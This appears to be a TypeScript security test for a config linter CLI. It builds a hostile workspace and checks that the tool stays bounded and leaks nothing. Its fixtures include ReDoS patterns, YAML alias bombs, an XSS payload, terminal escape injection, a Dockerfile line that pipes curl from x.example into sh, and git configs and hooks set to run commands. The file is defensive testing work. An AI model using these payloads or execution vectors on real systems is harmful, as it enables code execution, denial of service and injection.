import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, readdirSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { git, root, withFiles } from "../support.js";

const control = "\u001b]0;owned\u0007\u001b[2J";
const html = '<img src=x onerror="alert(1)">';
const secret = ["correct", "horse", "9Xv2Lq7T"].join("");

/** Rules that would take hours, gigabytes or somebody's screen. */
const rules: Readonly<Record<string, string>> = {
  "nested.yaml": rule("nested-quantifiers", "pattern: '^(([a-z])+.)+[A-Z]([a-z])+$'", "always: true"),
  "look.yaml": rule("look-around", "pattern: '(?=a)+b'", "always: true"),
  "steps.yaml": rule(
    "many-steps",
    "on: '**/many'",
    "where: 'node.root().children.exists(a, node.root().children.exists(b, a.name == b.kind))'",
  ),
  "text.yaml": rule(
    "long-text",
    "on: '**/*'",
    `let: { a: "node.name + node.name + 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'", ${Array.from({ length: 24 }, (_, n) => `a${n}: "${n === 0 ? "a + a" : `a${n - 1} + a${n - 1}`}"`).join(", ")} }`,
    "where: 'a23.contains(\"y\")'",
  ),
  "query.yaml": `id: slow-query
title: t
severity: warning
why: w
remedy: r
checks:
  javascript:
    - query: "(_ (_) @a (_) @b (_) @c (_) @d (_) @e (_) @f) @node"
      always: true
      message: m
      examples: [{ good: "1" }]
`,
  "bomb.yaml": `a: &a [x, x, x, x, x, x, x, x, x]\n${"bcdefghij"
    .split("")
    .map((name, n) => `${name}: &${name} [${`*${"abcdefghij"[n]}, `.repeat(9)}]`)
    .join("\n")}\n`,
  "alias.yaml": "id: *nothing\n",
  "deep.yaml": `${"[".repeat(50_000)}\n`,
  "words.yaml": rule("words-that-speak", "on: '**/speak'", `where: 'true'`).replace(
    "title: t",
    `title: "${html.replaceAll('"', "'")} \\e]0;owned\\a"`,
  ),
  "many.yaml": rule("many-findings", "on: '**/many'", "where: 'true'"),
};

function rule(id: string, ...lines: string[]): string {
  return `id: ${id}
title: t
severity: warning
why: w
remedy: r
checks:
  yaml:
    - ${lines.join("\n      ")}
      message: "${html.replaceAll('"', "'")} {node.text}"
      examples: [{ good: "a: 1\\n" }]
`;
}

const files: Readonly<Record<string, string>> = {
  "tenet.yaml": `extends: [./loop.yaml, ../outside.yaml, /etc/tenet.yaml, ./linked.yaml]
rulePaths: [../outside, /etc, ./linked-rules]
ignore: ["${"{a,b}".repeat(20)}", "${"*a".repeat(200)}", "${"**/".repeat(200)}x", "${"x".repeat(5000)}"]
limits: { findings: 50 }
`,
  "loop.yaml": "extends: ./loop2.yaml\n",
  "loop2.yaml": "extends: ./loop.yaml\n",
  "bomb/tenet.yaml": rules["bomb.yaml"]!,
  "bomb/a.yaml": "a: 1\n",
  ".gitignore": `${"*a".repeat(100)}b\n${"(a+)+".repeat(50)}\n`,
  [`${"a".repeat(200)}.yaml`]: "many: 1\n",
  "bomb.yaml": rules["bomb.yaml"]!,
  "deep.yaml": "[".repeat(100_000),
  "deep.json": '{"password":'.repeat(50_000),
  "aaa.yaml": `speak: ${"a".repeat(30_000)}!\n`,
  "many.yaml": "many: 1\n".repeat(2000).replace(/many/g, () => "- many"),
  "slow.js": `f(${"[1,2,3,4,5,6,7,8,9],".repeat(400)});\n`,
  "conf/haproxy.cfg": "a",
  ...Object.fromEntries(Array.from({ length: 20 }, (_, n) => [`slapd/${n}.conf`, "include *.conf\n".repeat(5)])),
  "slapd/slapd.conf": "include *.conf\nsecurity ssf=128\ndatabase mdb\naccess to * by * read\n",
  "nginx/nginx.conf": "include *.conf;\nhttp { include *.conf; server { listen 80; } }\n",
  "modules/a/main.tf": 'module "b" { source = "../b" }\n'.repeat(20),
  "modules/b/main.tf": 'module "a" { source = "../a" }\nmodule "out" { source = "../../../../../../etc" }\n'.repeat(20),
  [`${control}.env`]: `DB_PASSWORD=${secret}\n`,
  [`${html.replaceAll("/", "")}.env`]: `DB_PASSWORD=${secret}\n`,
  "line\nbreak.env": `DB_PASSWORD=${secret}\n`,
  "speak.yaml": `speak: "${html}"\nspeak2: "${control}"\n`,
  Dockerfile: `FROM node:20${control}\nRUN curl http://x.example/${html} | sh\n`,
};

describe("a hostile workspace", function () {
  this.timeout(120_000);

  it("is linted in bounded time and memory, with a word for each trap", async () => {
    const all: Record<string, string> = { ...files };
    for (const [name, text] of Object.entries(rules)) all[`.tenet/rules/${name}`] = text;
    const inner = Object.fromEntries(Object.entries(all).map(([path, text]) => [`work/${path}`, text]));
    const outer = {
      "outside.yaml": "rules: {}\n",
      "outside/r.yaml": rule("outside", "on: '**/a'"),
      "secret.env": `PASSWORD=${secret}\n`,
    };
    await withFiles({ ...inner, ...outer }, (folder) => {
      const work = join(folder, "work");
      links(folder, work);
      git(work, "init", "-q");
      const { code, out, err, took, memory } = measured(work, ["check", ".", "--all-rules", "--format", "pretty"]);
      assert.ok(took < 5_000 * slowness(), `${took} ms`);
      assert.ok(memory < 500 * 1024, `${memory} kB`);
      assert.equal(code, 1, err);
      assert.equal(err, "");
      const flat = out.replace(/\s+/g, " ");
      for (const told of [
        /loop\.yaml"? extends itself/,
        /"\.\.\/outside\.yaml" leads out of the workspace/,
        /"\/etc\/tenet\.yaml" (?:leads out|is no preset)/,
        /"\.\/linked\.yaml" leads out of the workspace/,
        /"\.\.\/outside" leads out of the configuration's folder/,
        /"\/etc" leads out of the configuration's folder/,
        /"\.\/linked-rules" leads out of the configuration's folder/,
        /the braces of a glob stand for at most 64 globs/,
        /a glob has at most 1000 characters/,
        /\.gitignore problem: 1 line is longer than 1000 characters or full of `\*`/,
        /bomb\/tenet\.yaml[^ ]* problem: aliases repeat more than/,
        /rules\/bomb\.yaml[^ ]* problem: aliases repeat more than/,
        /rules\/alias\.yaml[^ ]* problem: nothing is named &nothing/,
        /rules\/deep\.yaml[^ ]* problem: this nests too deep/,
        /rules\/look\.yaml[^ ]* problem: .*(?:invalid|Perl|missing)/,
        / bomb\.yaml[^ ]* problem: aliases stand for more than/,
        / deep\.yaml[^ ]* problem: .*nested deeper/,
        / deep\.json[^ ]* problem: .*nested/,
        /problem: many-steps: its expressions take more than 10000000 steps/,
        /problem: many-findings: more than 50 findings/,
        /huge\.json[^ ]* problem: is [\d.,]+ ?[MG]B, more than the limit/,
      ])
        assert.match(flat, told);
      // What lies outside is not read, what the files hold does not speak.
      assert.doesNotMatch(out, /secret\.env|outside\/r\.yaml/);
      assert.doesNotMatch(out, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
      assert.ok(!out.includes(secret));
    });
  });

  for (const format of ["concise", "github", "gitlab", "junit", "html", "sarif", "json", "markdown", "rdjson"])
    it(`speaks to nobody through ${format}`, () =>
      withFiles(
        { ...files, ".tenet/rules/words.yaml": rules["words.yaml"]!, "tenet.yaml": "root: true\n" },
        (folder) => {
          const { code, out, err } = measured(folder, ["check", ".", "--all-rules", "--format", format]);
          assert.equal(code, 1, err);
          for (const text of [out, err]) assert.doesNotMatch(text, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
          if (format === "html" || format === "junit" || format === "markdown") assert.doesNotMatch(out, /<img/);
          // A line break in a name begins no line of its own, which would be a command to GitHub.
          if (format === "github" || format === "concise") assert.doesNotMatch(out, /^break\.env/m);
          if (["json", "sarif", "gitlab", "rdjson"].includes(format)) JSON.parse(out);
        },
      ));

  for (const command of ["fix", "baseline", "suppressions", "vendor", "test", "config"])
    it(`speaks to nobody through tenet ${command}`, () =>
      withFiles(
        {
          [`${control}/nginx.conf`]: "mail { server { listen 143; starttls on; } }\n",
          [`${control}.env`]: `# tenet-ignore weak-tls: ${control}\nDB_PASSWORD=${secret}\n`,
          [`.tenet/rules/${control}.yaml`]: `id: ${control}\n`,
          "tenet.yaml": `extends: ["https://127.0.0.1:1/\\e]0;owned\\a.yaml"]\n`,
        },
        (folder) => {
          const { out, err } = measured(folder, [command]);
          for (const text of [out, err]) assert.doesNotMatch(text, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
          assert.ok(out + err !== "" && !(out + err).includes(secret));
        },
      ));

  it("has git start nothing", () =>
    withFiles({ ".env": "DEBUG=1\n", "b.env": "DEBUG=1\n", "sub/x": "" }, (folder) => {
      const run = (name: string): string => `touch '${join(folder, `ran-${name}`)}'; cat`;
      git(folder, "init", "-q", "-b", "main");
      git(join(folder, "sub"), "init", "-q");
      git(folder, "add", ".env", "b.env");
      git(folder, "commit", "-qm", "first");
      // Each of these is started by some command of git.
      for (const [key, value] of [
        ["core.fsmonitor", run("fsmonitor")],
        ["core.pager", run("pager")],
        ["core.editor", run("editor")],
        ["core.sshCommand", run("ssh")],
        ["core.askPass", run("askpass")],
        ["core.gitProxy", run("proxy")],
        ["core.hooksPath", join(folder, "hooks")],
        ["credential.helper", `!${run("credential")}`],
        ["diff.external", run("external")],
        ["diff.x.textconv", run("textconv")],
        ["diff.x.command", run("command")],
        ["filter.x.clean", run("clean")],
        ["filter.x.smudge", run("smudge")],
        ["filter.x.process", run("process")],
        ["filter.x.required", "true"],
        ["gpg.program", run("gpg")],
        ["pager.diff", run("pager-diff")],
        ["remote.origin.url", `ext::sh -c ${run("remote")}`],
        ["remote.origin.promisor", "true"],
        ["uploadpack.packObjectsHook", run("pack-objects")],
      ] as const)
        git(folder, "config", key, value);
      writeFileSync(join(folder, ".git/info/attributes"), "* filter=x diff=x\n");
      mkdirSync(join(folder, "hooks"));
      for (const hook of ["post-index-change", "pre-commit", "post-checkout", "reference-transaction"])
        writeFileSync(join(folder, "hooks", hook), `#!/bin/sh\n${run(hook)}\n`, { mode: 0o755 });
      writeFileSync(join(folder, ".env"), `DB_PASSWORD=${secret}\n`);
      writeFileSync(join(folder, ".gitattributes"), "* filter=x diff=x\n");
      writeFileSync(join(folder, "tenet.yaml"), `extends: ["git+file://${folder}#main"]\n`);
      // Touched and no more: nothing of it is new.
      writeFileSync(join(folder, "b.env"), "DEBUG=1\n");
      const reports = [["--changed"], ["--since", "HEAD"], ["--staged"]].map((args) => {
        const { out, code } = measured(folder, ["check", ...args, "--format", "json"]);
        assert.ok(code === 0 || code === 1, args.join(" "));
        return (JSON.parse(out) as { files: number }).files;
      });
      measured(folder, ["vendor"]);
      measured(folder, ["check", "."]);
      assert.deepEqual(
        readdirSync(folder).filter((name) => name.startsWith("ran-")),
        [],
      );
      assert.deepEqual(reports.slice(0, 2), [reports[0], reports[0]]);
      assert.ok(reports[0]! > 0);
    }));
});

/** Links out of the workspace and in circles, a pipe nobody writes to, a device, a file of four gigabytes. */
function links(folder: string, work: string): void {
  symlinkSync(join(folder, "outside.yaml"), join(work, "linked.yaml"));
  symlinkSync(join(folder, "outside"), join(work, "linked-rules"));
  symlinkSync(join(folder, "secret.env"), join(work, "linked.env"));
  symlinkSync(work, join(work, "circle"));
  symlinkSync("itself", join(work, "itself"));
  symlinkSync("/dev/zero", join(work, "zero.env"));
  mkdirSync(join(work, "pipes"), { recursive: true });
  execFileSync("mkfifo", [
    join(work, "pipes/Dockerfile"),
    join(work, "pipes/tenet.yaml"),
    join(work, "pipes/.gitignore"),
  ]);
  const huge = join(work, "huge.json");
  mkdirSync(dirname(huge), { recursive: true });
  writeFileSync(huge, "{}");
  truncateSync(huge, 4 * 1024 ** 3);
}

/** A run of the built program, with its time in milliseconds and its greatest memory in kilobytes. */
function measured(folder: string, args: readonly string[]) {
  const watch = `import { writeSync } from "node:fs"; process.on("exit", () => writeSync(3, String(process.resourceUsage().maxRSS)));`;
  const script = join(root, "dist/cli.js");
  const began = performance.now();
  const run = spawnSync(
    process.execPath,
    ["--import", `data:text/javascript,${encodeURIComponent(watch)}`, script, ...args],
    {
      cwd: folder,
      encoding: "utf8",
      maxBuffer: 1 << 28,
      stdio: ["ignore", "pipe", "pipe", "pipe"],
      env: { ...process.env, NO_COLOR: "1", FORCE_COLOR: undefined },
      timeout: 60_000,
    },
  );
  return {
    code: run.status,
    out: run.stdout,
    err: run.stderr,
    took: Math.round(performance.now() - began),
    memory: Number(run.output[3]),
  };
}

let slow: number | undefined;

/** How much slower than an idle core this one is: what takes 30 ms there takes so many times longer. */
function slowness(): number {
  if (slow === undefined) {
    const began = performance.now();
    spawnSync(process.execPath, ["-e", "0"]);
    slow = Math.max(1, (performance.now() - began) / 60);
  }
  return slow;
}
